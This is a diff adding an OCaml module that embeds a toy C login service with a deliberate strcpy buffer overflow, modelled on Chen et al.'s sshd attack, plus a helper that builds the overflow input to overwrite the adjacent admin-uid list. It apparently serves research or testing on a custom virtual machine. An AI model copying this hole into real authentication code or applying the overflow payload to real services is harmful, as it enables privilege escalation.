@@ -1,0 +1,78 @@
+let name_buffer_size = 32
+
+let body =
+  {|
+// ---- authd: a login service in the shape of Chen et al.'s sshd ----
+
+char linebuf[128];
+char namebuf[32];            // VULNERABLE: unbounded strcpy of the username
+uid_t admins[4] = {0, 33, 0, 0};  // sits right after namebuf
+int admin_count = 2;
+int logins_served = 0;
+
+int read_line(int fd) {
+  int n = sys_read(fd, linebuf, 127);
+  if (n < 0) { n = 0; }
+  linebuf[n] = '\0';
+  int nl = find_char(linebuf, 0, '\n');
+  if (nl >= 0) { linebuf[nl] = '\0'; }
+  return n;
+}
+
+int respond(int fd, char *verdict) {
+  write_str(fd, verdict);
+  write_str(fd, "\n");
+  return 1;
+}
+
+int handle(int fd) {
+  read_line(fd);
+  if (!starts_with(linebuf, "LOGIN ")) {
+    respond(fd, "BAD");
+    return 0;
+  }
+  strcpy(namebuf, &linebuf[6]);   // overflow: no bounds check
+  uid_t uid = getpwnam_uid(namebuf);
+  if (uid == (uid_t)(-1)) {
+    respond(fd, "NOUSER");
+    return 0;
+  }
+  int is_admin = 0;
+  for (int i = 0; i < admin_count; i++) {
+    if (uid == admins[i]) { is_admin = 1; }
+  }
+  if (is_admin) {
+    respond(fd, "ADMIN");
+  } else {
+    respond(fd, "OK");
+  }
+  logins_served = logins_served + 1;
+  return 1;
+}
+
+int main(void) {
+  while (1) {
+    int fd = sys_accept();
+    if (fd < 0) { return 1; }
+    handle(fd);
+    sys_close(fd);
+  }
+  return 0;
+}
+|}
+
+let source = Nv_minic.Runtime.with_runtime body
+
+let login user = Printf.sprintf "LOGIN %s\n" user
+
+let overflow_login ~target_uid =
+  let b0 = Nv_vm.Word.byte target_uid 0 in
+  let b1 = Nv_vm.Word.byte target_uid 1 in
+  let b2 = Nv_vm.Word.byte target_uid 2 in
+  let b3 = Nv_vm.Word.byte target_uid 3 in
+  (* strcpy carries the low NUL-free bytes; its terminator supplies the
+     first zero; any byte after that is out of the attacker's reach. *)
+  if b0 = 0 || b1 = 0 || b2 <> 0 || b3 <> 0 then
+    invalid_arg "Authd_source.overflow_login: uid must be 0x0000YYXX with XX,YY nonzero";
+  Printf.sprintf "LOGIN %s%c%c\n" (String.make name_buffer_size 'A') (Char.chr b0)
+    (Char.chr b1)
